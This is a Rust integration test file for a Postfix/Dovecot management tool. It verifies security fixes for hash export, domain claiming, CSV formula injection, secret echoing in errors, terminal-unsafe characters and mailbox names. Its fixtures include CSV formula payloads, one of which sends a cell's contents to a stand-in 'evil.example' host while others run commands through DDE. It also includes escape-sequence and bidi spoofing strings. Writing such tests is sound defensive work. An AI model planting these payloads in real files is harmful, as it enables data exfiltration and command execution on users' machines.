//! Issue 14, the input and export items: password hashes leave the
//! database only for an admin who asks (item 6), claiming a mail domain
//! name is an admin's act (item 7), CSV formula injection (item 9), no
//! password-column value in an import error (item 10, second half),
//! terminal-unsafe characters refused at input and escaped on output
//! (item 11), and local parts limited to what Dovecot serves (item 14).
//! Each test fails when its fix is reverted.

mod common;
mod mail_harness;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use diesel::prelude::*;
use postfix_manager::db::schema::audit_logs;
use postfix_manager::db::{self, AnyConnection, DbUrl};
use postfix_manager::error::OpError;
use postfix_manager::model::{Entity, Perm, ALL_PERMS};
use postfix_manager::ops::{self, domains::DomainInput, Ctx};
use postfix_manager::store::Filter;

const BIN: &str = env!("CARGO_BIN_EXE_postfix-manager");
const ADMIN_PW: &str = "secin-admin-password-1";
const MB_PW: &str = "a-mailbox-password-1";

/// A config directory for the binary, pointed at a test database.
struct Site {
    dir: tempfile::TempDir,
    url: String,
}

fn private_write(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).unwrap();
}

impl Site {
    /// `init` with an admin, logged in through the library as well.
    fn new(t: &common::TestDb) -> (Site, AnyConnection, Ctx) {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("config.toml"),
            "[security]\nbcrypt_cost = 4\n",
        )
        .unwrap();
        let s = Site {
            dir,
            url: t.url_string(),
        };
        private_write(&s.path("admin.pw"), &format!("{ADMIN_PW}\n"));
        let pw = s.path("admin.pw");
        let out = s.run(&["init", "--admin-password-file", pw.to_str().unwrap()]);
        assert!(out.status.success(), "init: {}", stderr(&out));
        let mut c = db::connect(&DbUrl::parse(&s.url).unwrap(), false).unwrap();
        // the binary keyed the audit chain: log in with its audit seal
        let admin = common::login_as_cli(&mut c, s.dir.path(), "admin", ADMIN_PW);
        (s, c, admin)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn run(&self, args: &[&str]) -> Output {
        Command::new(BIN)
            .current_dir(self.dir.path())
            .env("POSTFIX_MANAGER_CONFIG", self.path("config.toml"))
            .env("POSTFIX_MANAGER_DATABASE_URL", &self.url)
            .env_remove("POSTFIX_MANAGER_USER")
            .env_remove("POSTFIX_MANAGER_PASSWORD_FILE")
            .stdin(std::process::Stdio::null())
            .args(args)
            .output()
            .unwrap()
    }

    /// Run as `user`, whose password is "<user>-password-1" (admin: ADMIN_PW).
    fn as_user(&self, user: &str, args: &[&str]) -> Output {
        let file = self.path(&format!("{user}.pw"));
        if !file.exists() {
            private_write(&file, &format!("{user}-password-1\n"));
        }
        let mut full = vec!["--user", user, "--password-file", file.to_str().unwrap()];
        full.extend_from_slice(args);
        self.run(&full)
    }

    fn ok(&self, user: &str, args: &[&str]) -> String {
        let out = self.as_user(user, args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        String::from_utf8(out.stdout).unwrap()
    }
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn audit_count(c: &mut AnyConnection, action: &str, result: &str) -> i64 {
    audit_logs::table
        .filter(audit_logs::action.eq(action))
        .filter(audit_logs::result.eq(result))
        .count()
        .get_result(c)
        .unwrap()
}

fn mailbox(c: &mut AnyConnection, ctx: &Ctx, address: &str) {
    ops::mailboxes::create(
        c,
        ctx,
        &ops::mailboxes::NewMailbox {
            address: address.into(),
            password: MB_PW.into(),
            quota: Some(1 << 20),
            name: None,
        },
    )
    .unwrap();
}

/// Two domains with mailboxes; a readonly `viewer`, a `scoped` user with
/// every permission on a.example, and a `tenant` with only `domain` on it.
fn world(c: &mut AnyConnection, admin: &Ctx) -> (Ctx, Ctx, Ctx) {
    for d in ["a.example", "b.example"] {
        ops::domains::create(c, admin, d, &DomainInput::default()).unwrap();
        for i in 0..3 {
            mailbox(c, admin, &format!("user{i}@{d}"));
        }
    }
    let viewer = common::user_with_role(c, admin, "viewer", "readonly");
    let scoped = common::user_with_role(c, admin, "scoped", "user");
    ops::permissions::grant(c, admin, "scoped", "a.example", &ALL_PERMS).unwrap();
    let tenant = common::user_with_role(c, admin, "tenant", "user");
    ops::permissions::grant(c, admin, "tenant", "a.example", &[Perm::Domain]).unwrap();
    (viewer, scoped, tenant)
}

fn has_hash(text: &str) -> bool {
    text.contains("{BLF-CRYPT}") || text.contains("$2")
}

/// The password column of every data line of a mailbox export.
fn password_column(csv: &str) -> Vec<String> {
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    r.records().map(|rec| rec.unwrap()[1].to_string()).collect()
}

// ---------------------------------------------------------------- item 6

on_both_backends!(item06_hashes_only_for_admin_with_flag, |t| {
    let (s, mut c, admin) = Site::new(t);
    let (viewer, scoped, _) = world(&mut c, &admin);

    // readonly and scoped users: the column is there and empty
    for user in ["viewer", "scoped"] {
        let csv = s.ok(user, &["mailbox", "export"]);
        assert!(!has_hash(&csv), "{user}: {csv}");
        let pws = password_column(&csv);
        assert!(!pws.is_empty(), "{user}: {csv}");
        assert!(pws.iter().all(String::is_empty), "{user}: {csv}");
        // asking for the hashes is refused, naming the rule, and prints none
        let out = s.as_user(user, &["mailbox", "export", "--with-hashes"]);
        assert_ne!(out.status.code(), Some(0), "{user}");
        let all = format!("{}{}", stderr(&out), String::from_utf8_lossy(&out.stdout));
        assert!(!has_hash(&all), "{user}: {all}");
        assert!(
            all.contains("--with-hashes") && all.contains("needs role admin"),
            "{user}: {all}"
        );
    }
    assert_eq!(audit_count(&mut c, "export_hashes", "refused"), 2);

    // admin without the flag: empty; with it: every hash
    let csv = s.ok("admin", &["mailbox", "export"]);
    assert!(!has_hash(&csv), "{csv}");
    let csv = s.ok("admin", &["mailbox", "export", "--with-hashes"]);
    let pws = password_column(&csv);
    assert_eq!(pws.len(), 6);
    assert!(pws.iter().all(|p| p.starts_with("{BLF-CRYPT}$2")), "{csv}");
    assert_eq!(audit_count(&mut c, "export_hashes", "ok"), 1);

    // the TUI's :export path (csvfile) and the library obey the same rule
    let dir = tempfile::tempdir().unwrap();
    let table = Entity::Mailboxes;
    let f = Filter::default();
    for (who, ctx) in [("viewer", &viewer), ("scoped", &scoped)] {
        let path = dir.path().join(format!("{who}.csv"));
        let err =
            postfix_manager::csvfile::export_file(&mut c, ctx, table, &f, true, &path, &|_| {})
                .unwrap_err();
        assert!(matches!(err, OpError::Denied(_)), "{who}: {err:?}");
        assert!(!path.exists(), "{who}: a refused export left a file");
        postfix_manager::csvfile::export_file(&mut c, ctx, table, &f, false, &path, &|_| {})
            .unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(!has_hash(&text), "{who}: {text}");
    }
    let path = dir.path().join("admin.csv");
    postfix_manager::csvfile::export_file(&mut c, &admin, table, &f, false, &path, &|_| {})
        .unwrap();
    assert!(!has_hash(&std::fs::read_to_string(&path).unwrap()));
    let path = dir.path().join("admin-hashes.csv");
    postfix_manager::csvfile::export_file(&mut c, &admin, table, &f, true, &path, &|_| {}).unwrap();
    assert!(std::fs::read_to_string(&path)
        .unwrap()
        .contains("{BLF-CRYPT}$2"));
});

// ---------------------------------------------------------------- item 7

on_both_backends!(item07_claiming_a_mail_domain_is_admin_only, |t| {
    let (s, mut c, admin) = Site::new(t);
    let (_, scoped, tenant) = world(&mut c, &admin);
    let claims = ["gmail.example", "mail.b.example", "localhost.localdomain"];
    for user in ["tenant", "scoped"] {
        for name in claims {
            let out = s.as_user(user, &["alias-domain", "add", name, "a.example"]);
            assert_ne!(out.status.code(), Some(0), "{user} {name}");
            let err = stderr(&out);
            assert!(
                err.contains("needs role admin") && err.contains("name Postfix accepts mail for"),
                "{user} {name}: {err}"
            );
        }
        let out = s.as_user(user, &["domain", "add", "gmail.example"]);
        assert!(
            stderr(&out).contains("needs role admin"),
            "{}",
            stderr(&out)
        );
    }
    // the library path the TUI's worker takes
    for ctx in [&tenant, &scoped] {
        for name in claims {
            let before = common::snapshot(&mut c);
            let err = ops::alias_domains::create(&mut c, ctx, name, "a.example").unwrap_err();
            assert!(matches!(err, OpError::Denied(_)), "{name}: {err:?}");
            assert_eq!(common::snapshot(&mut c), before, "{name}");
        }
    }
    assert_eq!(common::count(&mut c, "alias_domains"), 0);
    assert_eq!(common::count(&mut c, "domains"), 2);
    assert_eq!(audit_count(&mut c, "create", "refused"), 14);

    // An admin adds it; the domain grant still manages it afterwards.
    s.ok(
        "admin",
        &["alias-domain", "add", "a-alias.example", "a.example"],
    );
    s.ok("tenant", &["alias-domain", "suspend", "a-alias.example"]);
    s.ok("tenant", &["alias-domain", "delete", "a-alias.example"]);
    assert_eq!(common::count(&mut c, "alias_domains"), 0);
});

// ---------------------------------------------------------------- item 9

const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
];

fn formula_start(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every cell of a CSV text.
fn cells(csv: &[u8]) -> Vec<String> {
    let mut r = csv::Reader::from_reader(csv);
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

struct Exports {
    domains: Vec<u8>,
    mailboxes: Vec<u8>,
    aliases: Vec<u8>,
}

fn export_all(c: &mut AnyConnection, admin: &Ctx) -> Exports {
    use postfix_manager::csvio;
    let f = Filter::default();
    let mut e = Exports {
        domains: Vec::new(),
        mailboxes: Vec::new(),
        aliases: Vec::new(),
    };
    csvio::export_domains(c, admin, &f, &mut e.domains).unwrap();
    csvio::export_mailboxes(c, admin, &f, true, &mut e.mailboxes).unwrap();
    csvio::export_aliases(c, admin, &f, &mut e.aliases).unwrap();
    e
}

on_both_backends!(item09_formula_cells_neutralized_and_round_trip, |t| {
    use postfix_manager::csvio;
    use postfix_manager::ops::import;
    let mut c = t.conn();
    let admin = common::admin(&mut c);
    // a normal value that starts with a quote, and one that starts with a
    // quote before a formula character: both must come back unchanged
    let quoted = ["'quoted' on purpose", "'=already quoted"];
    let texts: Vec<&str> = FORMULAS.iter().chain(quoted.iter()).copied().collect();
    for (i, text) in texts.iter().enumerate() {
        let d = format!("d{i}.example");
        let input = DomainInput {
            description: Some(text.to_string()),
            ..Default::default()
        };
        ops::domains::create(&mut c, &admin, &d, &input).unwrap();
        mailbox(&mut c, &admin, &format!("-lead{i}@{d}"));
        ops::mailboxes::edit(
            &mut c,
            &admin,
            &format!("-lead{i}@{d}"),
            None,
            &ops::mailboxes::MailboxEdit {
                name: Some(text.to_string()),
                quota: None,
            },
        )
        .unwrap();
        ops::aliases::create(
            &mut c,
            &admin,
            &format!("info@{d}"),
            &format!("-lead{i}@{d}"),
            Some(text),
        )
        .unwrap();
    }
    let first = export_all(&mut c, &admin);
    for (what, csv) in [
        ("domains", &first.domains),
        ("mailboxes", &first.mailboxes),
        ("aliases", &first.aliases),
    ] {
        let all = cells(csv);
        let bad: Vec<&String> = all.iter().filter(|c| formula_start(c)).collect();
        assert!(
            bad.is_empty(),
            "{what}: cells a spreadsheet would run: {bad:?}"
        );
        let text = String::from_utf8_lossy(csv);
        for f in FORMULAS {
            assert!(
                all.contains(&format!("'{f}")),
                "{what}: {f} not neutralized: {text}"
            );
        }
        assert!(
            all.contains(&"'quoted' on purpose".to_string()),
            "{what}: {text}"
        );
        assert!(
            all.contains(&"''=already quoted".to_string()),
            "{what}: {text}"
        );
    }

    // Into a fresh database of the same backend: every value comes back
    // exactly as stored, so the second export equals the first.
    let t2 = match t.name {
        "sqlite" => common::TestDb::sqlite(),
        _ => common::TestDb::postgres().unwrap(),
    };
    let mut c2 = t2.conn();
    let admin2 = common::admin(&mut c2);
    let d = csvio::parse_domains(first.domains.as_slice()).unwrap();
    import::domains(&mut c2, &admin2, &d, false, false).unwrap();
    let m = csvio::parse_mailboxes(first.mailboxes.as_slice(), 12, 4, &|_, _| {}).unwrap();
    import::mailboxes(&mut c2, &admin2, &m, false, &mut |_, _| {}).unwrap();
    let a = csvio::parse_aliases(first.aliases.as_slice()).unwrap();
    import::aliases(&mut c2, &admin2, &a, false).unwrap();
    for (i, text) in texts.iter().enumerate() {
        let d = ops::domains::get(&mut c2, &admin2, &format!("d{i}.example")).unwrap();
        assert_eq!(d.description.as_deref(), Some(*text));
        let m = ops::mailboxes::get(&mut c2, &admin2, &format!("-lead{i}@d{i}.example")).unwrap();
        assert_eq!(m.name.as_deref(), Some(*text));
    }
    let second = export_all(&mut c2, &admin2);
    assert_eq!(
        String::from_utf8(second.domains).unwrap(),
        String::from_utf8(first.domains).unwrap()
    );
    assert_eq!(second.mailboxes, first.mailboxes);
    assert_eq!(second.aliases, first.aliases);

    // Negative numbers are still read as numbers (and refused as before),
    // with or without the quote an export would add.
    for q in ["-1", "'-1"] {
        let csv = format!("address,password,quota,name,status\nx@d0.example,{MB_PW},{q},,\n");
        let err = csvio::parse_mailboxes(csv.as_bytes(), 12, 4, &|_, _| {}).unwrap_err();
        assert!(
            err.to_string().contains("quota: must not be negative"),
            "{q}: {err}"
        );
        let csv = format!(
            "name,description,quota,max_mailboxes,max_aliases,max_mailbox_quota,transport,status\n\
             n.example,,1G,{q},0,0,,\n"
        );
        let rows = csvio::parse_domains(csv.as_bytes()).unwrap();
        assert_eq!(rows[0].input.max_mailboxes, Some(-1), "{q}");
        let err = import::domains(&mut c2, &admin2, &rows, true, false).unwrap_err();
        assert!(
            err.to_string().contains("must not be negative"),
            "{q}: {err}"
        );
    }
});

// ---------------------------------------------------------------- item 10

on_both_backends!(item10_password_column_values_never_echoed, |t| {
    let (s, mut c, admin) = Site::new(t);
    world(&mut c, &admin);
    // Rows whose columns slipped: each secret sits where a rule quotes the
    // value it refuses (address, quota, status), or is itself refused.
    let secrets = [
        "Xq9-Secret-Pass!77",
        "hunter2-Secret@evil",
        "Zz8-Quota-Slip-Pass",
        "Yy7-Status-Slip-Pass",
        "Password1234",
    ];
    let csv = format!(
        "address,password,quota,name,status\n\
         {},bob@a.example,1G,,\n\
         {},carl@a.example,1G,,\n\
         dan@a.example,dan-password-123,{},,\n\
         erin@a.example,erin-password-123,1G,,{}\n\
         fay@a.example,{},1G,,\n",
        secrets[0], secrets[1], secrets[2], secrets[3], secrets[4]
    );
    let file = s.path("slipped.csv");
    std::fs::write(&file, &csv).unwrap();
    let file = file.to_str().unwrap();
    for json in [false, true] {
        let mut args = vec![];
        if json {
            args.push("--json");
        }
        args.extend(["mailbox", "import", file]);
        let out = s.as_user("admin", &args);
        assert_ne!(out.status.code(), Some(0));
        let all = format!("{}{}", stderr(&out), String::from_utf8_lossy(&out.stdout));
        for secret in secrets {
            assert!(!all.contains(secret), "{secret} echoed: {all}");
            assert!(
                !all.contains(&secret.to_lowercase()),
                "{secret} echoed: {all}"
            );
        }
        // Still says where and which rule.
        for want in [
            "line 2: address",
            "line 3: address",
            "line 4: quota",
            "line 5: status",
            "line 6: password",
        ] {
            assert!(all.contains(want), "{want} missing: {all}");
        }
    }
    // The TUI's :import reads through the same parser.
    let err = postfix_manager::csvfile::import_file(
        &mut c,
        &admin,
        Entity::Mailboxes,
        Path::new(file),
        true,
        false,
        &|_| {},
    )
    .unwrap_err()
    .to_string();
    for secret in secrets {
        assert!(
            !err.to_lowercase().contains(&secret.to_lowercase()),
            "{secret}: {err}"
        );
    }
    assert_eq!(common::count(&mut c, "mailboxes"), 6);
});

// ---------------------------------------------------------------- item 11

fn raw_unsafe(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| postfix_manager::validate::is_unsafe_char(*c) && !matches!(c, '\n' | '\t'))
        .collect()
}

fn invalid_field(r: Result<impl std::fmt::Debug, OpError>, field: &str) {
    match r {
        Err(OpError::Invalid { field: f, message }) => {
            assert_eq!(f, field, "{message}");
            assert!(
                message.contains("control or bidirectional-formatting characters (found U+"),
                "{field}: {message}"
            );
            assert!(raw_unsafe(&message).is_empty(), "{message:?}");
        }
        other => panic!("{field}: expected Invalid, got {other:?}"),
    }
}

on_both_backends!(item11_bidi_and_c1_refused_at_input, |t| {
    let (s, mut c, admin) = Site::new(t);
    world(&mut c, &admin);
    let before = common::snapshot(&mut c);
    for ch in [
        '\u{202a}', '\u{202e}', '\u{2066}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{61c}',
        '\u{9b}', '\u{80}', '\u{1b}',
    ] {
        let text = format!("ad{ch}min");
        let desc = DomainInput {
            description: Some(text.clone()),
            ..Default::default()
        };
        invalid_field(
            ops::domains::create(&mut c, &admin, "new.example", &desc),
            "description",
        );
        invalid_field(
            ops::domains::edit(&mut c, &admin, "a.example", None, &desc),
            "description",
        );
        invalid_field(
            ops::domains::create(
                &mut c,
                &admin,
                &format!("x{ch}y.example"),
                &Default::default(),
            ),
            "name",
        );
        invalid_field(
            ops::alias_domains::create(&mut c, &admin, &format!("x{ch}y.example"), "a.example"),
            "name",
        );
        let mb = |address: String, name: Option<String>| ops::mailboxes::NewMailbox {
            address,
            password: MB_PW.into(),
            quota: Some(1 << 20),
            name,
        };
        invalid_field(
            ops::mailboxes::create(&mut c, &admin, &mb(format!("x{ch}y@a.example"), None)),
            "address",
        );
        invalid_field(
            ops::mailboxes::create(
                &mut c,
                &admin,
                &mb("new@a.example".into(), Some(text.clone())),
            ),
            "name",
        );
        invalid_field(
            ops::mailboxes::edit(
                &mut c,
                &admin,
                "user0@a.example",
                None,
                &ops::mailboxes::MailboxEdit {
                    name: Some(text.clone()),
                    quota: None,
                },
            ),
            "name",
        );
        invalid_field(
            ops::aliases::create(
                &mut c,
                &admin,
                "info@a.example",
                "user0@a.example",
                Some(&text),
            ),
            "description",
        );
        invalid_field(
            ops::aliases::create(
                &mut c,
                &admin,
                &format!("i{ch}nfo@a.example"),
                "user0@a.example",
                None,
            ),
            "address",
        );
        invalid_field(
            ops::aliases::create(
                &mut c,
                &admin,
                "info@a.example",
                &format!("user0{ch}@a.example"),
                None,
            ),
            "goto",
        );
        invalid_field(
            ops::users::create(
                &mut c,
                &admin,
                &ops::users::NewUser {
                    username: "newuser".into(),
                    email: format!("new{ch}@example.net"),
                    role: "readonly".into(),
                    password: "newuser-password-1".into(),
                },
            ),
            "email",
        );
    }
    assert_eq!(common::snapshot(&mut c), before, "a refusal changed data");
    // The CLI says which field and which character, printing none raw.
    let out = s.as_user(
        "admin",
        &[
            "domain",
            "edit",
            "a.example",
            "--description",
            "Tenant \u{202e}gnp.exe",
        ],
    );
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(
        err.contains("description: must not contain control or bidi"),
        "{err}"
    );
    assert!(err.contains("U+202E"), "{err}");
    assert!(raw_unsafe(&err).is_empty(), "{err:?}");
});

on_both_backends!(item11_stored_c1_and_bidi_never_leave_raw, |t| {
    use postfix_manager::db::schema::{aliases, domains, mailboxes};
    let (s, mut c, admin) = Site::new(t);
    world(&mut c, &admin);
    ops::aliases::create(&mut c, &admin, "info@a.example", "user0@a.example", None).unwrap();
    // Rows written before the input rules (or by hand): ESC, C1, bidi.
    let evil = "ok\u{1b}[2J\u{9b}31m\u{85}\u{202e}txt.exe\u{2066}\u{200f}end";
    let stripped = "ok[2J31mtxt.exeend";
    diesel::update(domains::table.filter(domains::name.eq("a.example")))
        .set(domains::description.eq(evil))
        .execute(&mut c)
        .unwrap();
    diesel::update(mailboxes::table.filter(mailboxes::username.eq("user0@a.example")))
        .set(mailboxes::name.eq(evil))
        .execute(&mut c)
        .unwrap();
    diesel::update(aliases::table.filter(aliases::address.eq("info@a.example")))
        .set(aliases::description.eq(evil))
        .execute(&mut c)
        .unwrap();

    let check = |args: &[&str]| -> String {
        let out = s.ok("admin", args);
        let bad = raw_unsafe(&out);
        assert!(bad.is_empty(), "{args:?} printed {bad:?} raw: {out:?}");
        assert!(!out.contains('\u{1b}'), "{args:?}");
        out
    };
    // --json: escaped, and decoding gives back exactly what is stored
    for (args, pointer) in [
        (&["--json", "domain", "list"][..], "/items/0/description"),
        (
            &["--json", "domain", "show", "a.example"][..],
            "/description",
        ),
        (&["--json", "mailbox", "list"][..], "/items/0/name"),
        (&["--json", "mailbox", "list", "--all"][..], "/items/0/name"),
        (
            &["--json", "mailbox", "show", "user0@a.example"][..],
            "/name",
        ),
        (&["--json", "alias", "list"][..], "/items/0/description"),
    ] {
        let out = check(args);
        assert!(
            out.contains("\\u009b") && out.contains("\\u202e"),
            "{args:?}: {out}"
        );
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(
            v.pointer(pointer).and_then(|d| d.as_str()),
            Some(evil),
            "{args:?}: {out}"
        );
    }
    // text: stripped
    for args in [
        &["domain", "list"][..],
        &["domain", "show", "a.example"][..],
        &["mailbox", "list"][..],
        &["alias", "list"][..],
    ] {
        assert!(check(args).contains(stripped), "{args:?}");
    }
    // CSV exports: stripped (and so importable again)
    for (args, col) in [
        (&["domain", "export"][..], 1),
        (&["mailbox", "export"][..], 3),
        (&["alias", "export"][..], 2),
    ] {
        let out = check(args);
        let mut r = csv::Reader::from_reader(out.as_bytes());
        let first = r.records().next().unwrap().unwrap();
        assert_eq!(&first[col], stripped, "{args:?}: {out:?}");
    }
});

// ---------------------------------------------------------------- item 14

on_both_backends!(item14_local_parts_dovecot_cannot_serve_refused, |t| {
    let (s, mut c, admin) = Site::new(t);
    world(&mut c, &admin);
    let before = common::snapshot(&mut c);
    let mb = |address: String| ops::mailboxes::NewMailbox {
        address,
        password: MB_PW.into(),
        quota: Some(1 << 20),
        name: None,
    };
    // Never in any new address: path, SQL quote, expansion, shell.
    for ch in ['/', '\'', '%', '{', '}', '`'] {
        for addr in [format!("a{ch}b@a.example"), format!("{ch}x@a.example")] {
            let err = ops::mailboxes::create(&mut c, &admin, &mb(addr.clone())).unwrap_err();
            match &err {
                OpError::Invalid { field, message } => {
                    assert_eq!(field, "address", "{addr}: {message}");
                    assert!(
                        message.contains("may hold only letters, digits and .-_")
                            && message.contains("auth_username_chars"),
                        "{addr}: {message}"
                    );
                }
                other => panic!("{addr}: {other:?}"),
            }
            let err =
                ops::aliases::create(&mut c, &admin, &addr, "user0@a.example", None).unwrap_err();
            assert!(
                err.to_string()
                    .starts_with("address: the local part may hold only"),
                "{addr}: {err}"
            );
            let err = ops::aliases::create(&mut c, &admin, "x@a.example", &addr, None).unwrap_err();
            assert!(
                err.to_string().starts_with("goto: destination 1"),
                "{addr}: {err}"
            );
        }
    }
    // A mailbox is a Dovecot login: the RFC's other specials are refused too.
    for ch in ['+', '=', '!', '#', '$', '&', '*', '?', '^', '|', '~'] {
        let addr = format!("a{ch}b@a.example");
        let err = ops::mailboxes::create(&mut c, &admin, &mb(addr.clone())).unwrap_err();
        assert!(
            err.to_string().contains("auth_username_chars"),
            "{addr}: {err}"
        );
    }
    assert_eq!(common::snapshot(&mut c), before, "a refusal changed data");
    // The CLI and a CSV import say the same, naming the field.
    let out = s.as_user(
        "admin",
        &["mailbox", "add", "a/b@a.example", "--generate-password"],
    );
    assert_ne!(out.status.code(), Some(0));
    assert!(
        stderr(&out).contains("address: a mailbox's local part"),
        "{}",
        stderr(&out)
    );
    let csv = format!("address,password,quota,name,status\na%b@a.example,{MB_PW},,,\n");
    let err = postfix_manager::csvio::parse_mailboxes(csv.as_bytes(), 12, 4, &|_, _| {})
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("line 2: address: a mailbox's local part"),
        "{err}"
    );

    // What stays allowed: Dovecot's set for mailboxes, sub-addresses for
    // aliases and external destinations.
    mailbox(&mut c, &admin, "first.last-2_x@a.example");
    ops::aliases::create(
        &mut c,
        &admin,
        "sales+eu@a.example",
        "ext+tag@gmail.example",
        None,
    )
    .unwrap();
    // A row stored before these rules can still be found and removed.
    diesel::update(
        postfix_manager::db::schema::mailboxes::table
            .filter(postfix_manager::db::schema::mailboxes::username.eq("user1@a.example")),
    )
    .set((
        postfix_manager::db::schema::mailboxes::username.eq("old/style@a.example"),
        postfix_manager::db::schema::mailboxes::local_part.eq("old/style"),
    ))
    .execute(&mut c)
    .unwrap();
    ops::mailboxes::get(&mut c, &admin, "old/style@a.example").unwrap();
    // `mail generate` names it: Postfix would take its mail, Dovecot
    // would refuse its login.
    let gen = s.path("gen");
    let out = s.as_user(
        "admin",
        &["mail", "generate", "--out", gen.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let warn = stderr(&out);
    assert!(
        warn.contains("warning: 1 mailbox(es) have a local part Dovecot refuses")
            && warn.contains("old/style@a.example")
            && !warn.contains("first.last"),
        "{warn}"
    );
    ops::mailboxes::delete(&mut c, &admin, "old/style@a.example").unwrap();
    let out = s.as_user(
        "admin",
        &[
            "mail",
            "generate",
            "--out",
            s.path("gen2").to_str().unwrap(),
        ],
    );
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
});

on_both_backends!(
    item14_generated_auth_username_chars_equal_the_validator,
    |t| {
        use postfix_manager::validate;
        // The rule's character set, probed over all of printable ASCII.
        let accepted: String = (0x21u8..0x7f)
            .map(char::from)
            .filter(|ch| {
                *ch != '@' && validate::mailbox_address("a", &format!("a{ch}b@x.example")).is_ok()
            })
            .collect();
        let chars = validate::dovecot_username_chars();
        let mut expect: Vec<char> = accepted.chars().collect();
        // Upper case logs in too (Dovecot lower-cases with %Lu), and '@' joins
        // local part and domain.
        expect.extend('A'..='Z');
        expect.push('@');
        expect.sort_unstable();
        expect.dedup();
        let mut got: Vec<char> = chars.chars().collect();
        got.sort_unstable();
        assert_eq!(got, expect, "auth_username_chars and the validator drifted");
        // Dovecot's built-in default is this very set.
        let mut default: Vec<char> =
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ01234567890.-_@"
                .chars()
                .collect();
        default.sort_unstable();
        default.dedup();
        assert_eq!(got, default);

        // The generated config says so, and a real Dovecot reads it and logs
        // in a mailbox using every special character.
        let mut c = t.conn();
        let admin = common::admin(&mut c);
        ops::domains::create(&mut c, &admin, "m.example", &DomainInput::default()).unwrap();
        mailbox(&mut c, &admin, "first.last-2_x@m.example");
        let root = tempfile::tempdir().unwrap();
        std::fs::set_permissions(root.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let homes = mail_harness::shared_dir(root.path(), "vmail");
        let out = root.path().join("generated");
        mail_harness::generate_files(t, &admin, &mut c, &out, &mail_harness::mail_config(&homes));
        let conf = std::fs::read_to_string(out.join("dovecot-postfix-manager.conf")).unwrap();
        assert!(
            conf.lines()
                .any(|l| l == format!("auth_username_chars = {chars}")),
            "{conf}"
        );
        if !mail_harness::have(&["dovecot", "doveadm", "doveconf"]) {
            return;
        }
        let dc = mail_harness::Dovecot::start(&out);
        let shown = dc.doveadm(&["config", "-h", "auth_username_chars"]);
        let shown = String::from_utf8_lossy(&shown.stdout);
        assert_eq!(shown.trim(), chars, "doveconf reads another value");
        assert!(dc.auth("first.last-2_x@m.example", MB_PW));
        assert!(dc.auth("First.Last-2_X@M.example", MB_PW));
    }
);
